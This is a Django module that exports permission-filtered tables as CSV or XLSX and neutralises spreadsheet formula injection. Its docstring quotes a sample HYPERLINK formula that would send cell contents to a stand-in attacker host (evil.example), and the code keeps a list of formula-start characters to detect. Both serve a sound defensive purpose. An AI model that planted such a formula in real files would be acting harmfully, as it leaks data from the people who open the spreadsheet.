"""The export layer: the registry of downloadable tables, the one CSV/XLSX writer, and the download policy.

Every table is a `Table`: `build(user, data)` turns the filters of the page it comes from (the same query string)
into a `values_list` queryset of what that user may see, and `row(values)` formats one row. Reading goes through
`QuerySet.iterator()`, a server-side cursor on PostgreSQL: memory stays flat for fifty rows or two hundred
thousand. `download(request, slug, fmt)` is what any view returns: up to EXPORT_DIRECT_MAX_ROWS rows the file is
the response, above that an `ExportJob` is queued (`core.export_jobs`) and the person goes to its progress page.

Each app registers its own tables from its own `exports` module, imported in its AppConfig.ready(), so the registry
is complete at start-up. To add a table: write its `build` and `row`, and `register(Table(...))` it there.

Every file is written here, and every text cell that a spreadsheet would read as a formula is written as text
(OWASP "CSV injection"): a title like `=HYPERLINK("http://evil.example/?d="&A1,"klik")` must stay a title.
"""

from __future__ import annotations

import csv
import datetime
import io
import re
from collections.abc import Callable, Iterable, Iterator, Mapping, Sequence
from dataclasses import dataclass
from decimal import Decimal
from pathlib import Path
from typing import Any, TypeGuard

from django.conf import settings
from django.db.models import QuerySet
from django.http import Http404, HttpRequest, HttpResponse, HttpResponseBase, QueryDict, StreamingHttpResponse
from django.shortcuts import redirect, render
from django.utils import timezone, translation
from django.utils.http import url_has_allowed_host_and_scheme
from django.utils.translation import get_language, gettext_lazy, pgettext_lazy

from core import audit

#: Rows fetched per round trip of the server-side cursor.
CHUNK_ROWS = 2000
FORMATS = ("csv", "xlsx")
XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"

# What Excel, LibreOffice and Google Sheets start a formula (or a DDE call) with.
_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
# A plain number such as "-5.00" (a Decimal written as text) cannot run anything: it is left as it is.
_PLAIN_NUMBER = re.compile(r"[+-]?\d+(\.\d+)?")


class InvalidExport(Exception):
    """The filters cannot be applied (a value that is not understood): nothing is exported."""

    def __init__(self, messages: list[str]) -> None:
        super().__init__("; ".join(messages))
        self.messages = messages


#: A column's stored value -> what the reader sees, in the reader's language ("at_risk" -> "Berisiko").
Labels = Mapping[Any, Any] | Callable[[Any], Any]

#: Booleans as words: "Ya" / "Tidak" in Indonesian.
YES_NO: dict[bool, Any] = {True: pgettext_lazy("boolean", "Yes"), False: pgettext_lazy("boolean", "No")}


@dataclass(frozen=True)
class Column:
    """One column of a table: its header, where its values come from and how a person reads them.

    `field` is the `values_list` lookup ("agency__name"); a column computed by the table's `row` has none.
    `labels` turns stored slugs into words; the API keeps the slugs, a person reads the words.
    """

    header: Any  # a lazy translation: read in the language of whoever downloads
    field: str = ""
    labels: Labels | None = None
    #: In characters, for the XLSX; 0: wide enough for the header.
    width: int = 0

    def value(self, raw: object) -> object:
        if raw is None or raw == "":
            return None
        if self.labels is None:
            return raw
        label = self.labels(raw) if callable(self.labels) else self.labels.get(raw, raw)
        return str(label) if label is not None else None

    def chars(self) -> int:
        return self.width or min(max(len(str(self.header)) + 2, 12), 40)


#: The year of a row, as most tables have it.
YEAR = Column(gettext_lazy("Year"), "year", width=8)


@dataclass(frozen=True)
class Selection:
    """What a table's `build` found for one request: the rows, and the filters they were narrowed by as a person
    would say them ((label, value) pairs in the reader's language), for the title row of the file."""

    rows: QuerySet[Any]
    filters: Sequence[tuple[Any, Any]] = ()
    year: int | None = None


@dataclass(frozen=True)
class Table:
    slug: str
    title: Any  # a lazy translation
    filename: str
    columns: Sequence[Column]
    #: (user, filters) -> Selection; the rows are a queryset of that user's sight, ordered, not yet values_list'd.
    build: Callable[[Any, QueryDict], Selection]
    #: Read besides the columns' fields, for a `row` that computes columns.
    extra: Sequence[str] = ()
    #: values (the fields, then `extra`) -> one raw value per column; by default the fields as they are.
    row: Callable[[Sequence[Any]], Sequence[object]] | None = None

    @property
    def headers(self) -> list[str]:
        return [str(column.header) for column in self.columns]

    @property
    def widths(self) -> list[int]:
        return [column.chars() for column in self.columns]

    def values(self, queryset: QuerySet[Any]) -> QuerySet[Any]:
        return queryset.values_list(*(c.field for c in self.columns if c.field), *self.extra)

    def rows(self, queryset: QuerySet[Any]) -> Iterator[list[object]]:
        for values in self.values(queryset).iterator(chunk_size=CHUNK_ROWS):
            raw = self.row(values) if self.row else values
            yield [column.value(v) for column, v in zip(self.columns, raw, strict=True)]


TABLES: dict[str, Table] = {}


def register(table: Table) -> Table:
    TABLES[table.slug] = table
    return table


def parameters_from(query: QueryDict) -> dict[str, list[str]]:
    """The filters of a request as JSON for `ExportJob.parameters` (paging and the format are not filters)."""
    return {key: values for key, values in query.lists() if key not in ("page", "format", "export") and any(values)}


def query_from(parameters: dict[str, list[str]]) -> QueryDict:
    query = QueryDict(mutable=True)
    for key, values in parameters.items():
        query.setlist(key, values)
    return query


# --- helpers of the tables' `build` and `row` ---------------------------------------------------------------------


def visible_choice(data: QueryDict, name: str, queryset: QuerySet[Any], message: Any) -> Any:
    """The object a filter names by id, refused with 404 when it is outside what the person may see."""
    wanted = data.get(name, "")
    if not wanted:
        return None
    if not wanted.isdigit():
        raise InvalidExport([str(message)])
    found = queryset.filter(pk=int(wanted)).first()
    if found is None:
        raise Http404
    return found


def year_from(data: QueryDict) -> int | None:
    wanted = data.get("year", "")
    if not wanted:
        return None
    if not wanted.isdigit() or not 2000 <= int(wanted) <= 2100:
        raise InvalidExport([str(gettext_lazy("The year is not understood."))])
    return int(wanted)


def choice_from(data: QueryDict, name: str, choices: Sequence[str], message: Any) -> str | None:
    wanted = data.get(name, "")
    if not wanted:
        return None
    if wanted not in choices:
        raise InvalidExport([str(message)])
    return wanted


def filter_errors(form: Any) -> list[str]:
    return [f"{form.fields[name].label}: {' '.join(errors)}" for name, errors in form.errors.items()]


#: Filter fields that choose no rows: the search box is said, the order and hidden ids are not.
_NOT_FILTERS = frozenset({"sort", "region", "year", "page"})


def form_filters(form: Any, *, skip: Iterable[str] = ()) -> list[tuple[Any, Any]]:
    """A valid filter form's chosen values as (label, shown value): an object by its name, a choice by its
    label (in the reader's language), for the title row of a download."""
    found: list[tuple[Any, Any]] = []
    for name, field in form.fields.items():
        value = form.cleaned_data.get(name)
        if name in _NOT_FILTERS or name in skip or value in (None, "", [], ()):
            continue
        choices = dict(getattr(field, "choices", ()) or ())
        shown = choices.get(value, value) if isinstance(value, str) else value
        found.append((field.label, shown))
    return found


def heading(table: Table, selection: Selection, *, made: datetime.date | None = None) -> str:
    """The title row: what the table is, what was filtered and when it was made, in the reader's language
    ("Kuota inovasi 2026 - Wilayah: Kota Ambon; Status: Berisiko - dibuat 28-11-2026")."""
    title = f"{table.title} {selection.year}" if selection.year else str(table.title)
    filters = "; ".join(f"{label}: {value}" for label, value in selection.filters)
    made_on = gettext_lazy("made %(date)s") % {"date": f"{made or timezone.localdate():%d-%m-%Y}"}
    return " - ".join(part for part in (title, filters, str(made_on)) if part)


# --- the writer ---------------------------------------------------------------------------------------------------

#: How the XLSX shows dates and times (the reader's spreadsheet keeps them as dates it can sort and count).
DATE_FORMAT = "DD-MM-YYYY"
DATETIME_FORMAT = "DD-MM-YYYY HH:MM"


def is_formula_like(value: object) -> TypeGuard[str]:
    return isinstance(value, str) and value.startswith(_FORMULA_START) and not _PLAIN_NUMBER.fullmatch(value)


def text_of(value: object) -> object:
    """A value as CSV writes it: dates as ISO text (times in the local zone), nothing as empty, decimals exactly."""
    if value is None:
        return ""
    if isinstance(value, datetime.datetime):
        return timezone.localtime(value).strftime("%Y-%m-%d %H:%M")
    if isinstance(value, datetime.date):
        return value.isoformat()
    if isinstance(value, Decimal):
        return str(value)
    return value


def csv_cell(value: object) -> object:
    # The quote makes a spreadsheet show the text as it is; it is the prefix OWASP recommends.
    value = text_of(value)
    return f"'{value}" if is_formula_like(value) else value


class _Echo:
    def write(self, value: str) -> str:
        return value


def _csv_lines(headers: Sequence[object], rows: Iterable[Iterable[object]], handle: Any) -> Iterator[Any]:
    writer = csv.writer(handle)
    yield writer.writerow([csv_cell(v) for v in headers])
    for row in rows:
        yield writer.writerow([csv_cell(v) for v in row])


def xlsx_sheet(
    book: Any,
    sheet: str,
    headers: Sequence[object],
    rows: Iterable[Iterable[object]],
    *,
    title: str = "",
    widths: Sequence[int] = (),
) -> None:
    """Append a sheet to a write-only openpyxl workbook (several sheets in one file: the IID portal workbook).

    Dates are date cells, numbers number cells, formula-like text stays text. With a `title`, it is the first row
    and the header the second; the header stays in view when scrolling."""
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.styles import Font
    from openpyxl.utils import get_column_letter

    worksheet = book.create_sheet(str(sheet)[:31])
    bold = Font(bold=True)
    for number, width in enumerate(widths, start=1):
        worksheet.column_dimensions[get_column_letter(number)].width = width
    worksheet.freeze_panes = "A3" if title else "A2"

    def typed(value: object) -> object:
        if isinstance(value, datetime.datetime):
            # Excel has no time zones: the local time, as the pages show it.
            date_cell = WriteOnlyCell(worksheet, value=timezone.localtime(value).replace(tzinfo=None))
            date_cell.number_format = DATETIME_FORMAT
            return date_cell
        if isinstance(value, datetime.date):
            # A spreadsheet's date is a day number; midnight of the day is that number exactly.
            date_cell = WriteOnlyCell(worksheet, value=datetime.datetime.combine(value, datetime.time()))
            date_cell.number_format = DATE_FORMAT
            return date_cell
        if is_formula_like(value):
            text = WriteOnlyCell(worksheet, value=value)
            # openpyxl makes any text starting with "=" a formula; a string cell is shown exactly as written,
            # and the quote prefix keeps it text when someone edits it in Excel.
            text.data_type = "s"
            text.quotePrefix = True
            return text
        return value

    def strong(value: object) -> Any:
        written = WriteOnlyCell(worksheet, value=str(value))
        written.data_type = "s"  # a header or title is never a formula, whatever it starts with
        written.font = bold
        return written

    if title:
        worksheet.append([strong(title)])
    worksheet.append([strong(v) for v in headers])
    for row in rows:
        worksheet.append([typed(v) for v in row])


def _xlsx_book(
    headers: Sequence[object], rows: Iterable[Iterable[object]], sheet: str, title: str, widths: Sequence[int]
) -> Any:
    from openpyxl import Workbook

    book = Workbook(write_only=True)
    xlsx_sheet(book, sheet, headers, rows, title=title, widths=widths)
    return book


def csv_response(headers: Sequence[object], rows: Iterable[Iterable[object]], filename: str) -> StreamingHttpResponse:
    """A streamed CSV download (UTF-8 with a BOM, so that Excel shows the characters right). One header line and
    no title row: the file stays readable by programs."""

    language = get_language()

    def stream() -> Iterator[str]:
        # The rows are read after the view has returned, outside the request's language: labels need it back.
        with translation.override(language):
            yield "\ufeff"
            yield from _csv_lines(headers, rows, _Echo())

    response = StreamingHttpResponse(stream(), content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}.csv"'
    return response


def xlsx_response(
    headers: Sequence[object],
    rows: Iterable[Iterable[object]],
    filename: str,
    sheet: str,
    *,
    title: str = "",
    widths: Sequence[int] = (),
) -> HttpResponse:
    data = io.BytesIO()
    _xlsx_book(headers, rows, sheet, title, widths).save(data)
    response = HttpResponse(data.getvalue(), content_type=XLSX_CONTENT_TYPE)
    response["Content-Disposition"] = f'attachment; filename="{filename}.xlsx"'
    return response


def write_file(
    path: Path,
    *,
    table: Table,
    queryset: QuerySet[Any],
    fmt: str,
    title: str,
    progress: Callable[[int], None],
    every: int,
) -> int:
    """Write every row to `path` (CSV with a BOM for Excel, or XLSX in write-only mode); return the row count.

    `progress(rows_written)` is called every `every` rows. Neither format keeps the rows in memory.
    """
    written = 0

    def counted(rows: Iterable[list[object]]) -> Iterator[list[object]]:
        nonlocal written
        for row in rows:
            yield row
            written += 1
            if written % every == 0:
                progress(written)

    if fmt == "csv":
        with path.open("w", encoding="utf-8-sig", newline="") as handle:
            # csv.writer writes to the file itself: the lines only need to be pulled through.
            for _line in _csv_lines(table.headers, counted(table.rows(queryset)), handle):
                pass
        return written
    book = _xlsx_book(table.headers, counted(table.rows(queryset)), str(table.title), title, table.widths)
    book.save(path)
    return written


# --- the policy: one way to download a table, from any page -------------------------------------------------------


def file_name(table: Table) -> str:
    return f"{table.filename}-{timezone.localdate():%Y%m%d}"


def download(request: HttpRequest, slug: str, fmt: str) -> HttpResponseBase:
    """The download of table `slug` with the request's filters (its query string), as a view's response, in the
    reader's language.

    Up to EXPORT_DIRECT_MAX_ROWS rows the file is the response; above that a background job is queued (with the
    language and the title row, so that its file is the same) and the person is taken to its progress page.
    Filters that are not understood give a page saying so (400); a table that does not exist, or an agency out of
    the person's sight, 404.
    """
    table = TABLES.get(slug)
    if table is None:
        raise Http404
    if fmt not in FORMATS:
        return invalid(request, [])
    parameters = parameters_from(request.GET)
    try:
        selection = table.build(request.user, query_from(parameters))
    except InvalidExport as exc:
        return invalid(request, exc.messages)
    queryset = selection.rows
    title = heading(table, selection)
    total = queryset.count()
    audit.record(
        audit.Kind.EXPORT,
        request=request,
        summary=f"{slug} · {fmt.upper()} · {total}",
        detail={"table": slug, "format": fmt, "rows": total, "filters": parameters},
    )
    if total <= settings.EXPORT_DIRECT_MAX_ROWS:
        if fmt == "csv":
            return csv_response(table.headers, table.rows(queryset), file_name(table))
        return xlsx_response(
            table.headers, table.rows(queryset), file_name(table), str(table.title), title=title, widths=table.widths
        )
    # Imported here: the job services import this module.
    from core.export_jobs import export_start

    job = export_start(
        owner=request.user,
        table=table,
        fmt=fmt,
        parameters=parameters,
        estimate=total,
        language=get_language() or settings.LANGUAGE_CODE,
        title=title,
    )
    return redirect("exports:detail", token=job.token)


def invalid(request: HttpRequest, errors: list[str]) -> HttpResponse:
    referer = request.META.get("HTTP_REFERER", "")
    safe = url_has_allowed_host_and_scheme(referer, {request.get_host()}, require_https=request.is_secure())
    return render(request, "core/export_invalid.html", {"errors": errors, "back": referer if safe else ""}, status=400)
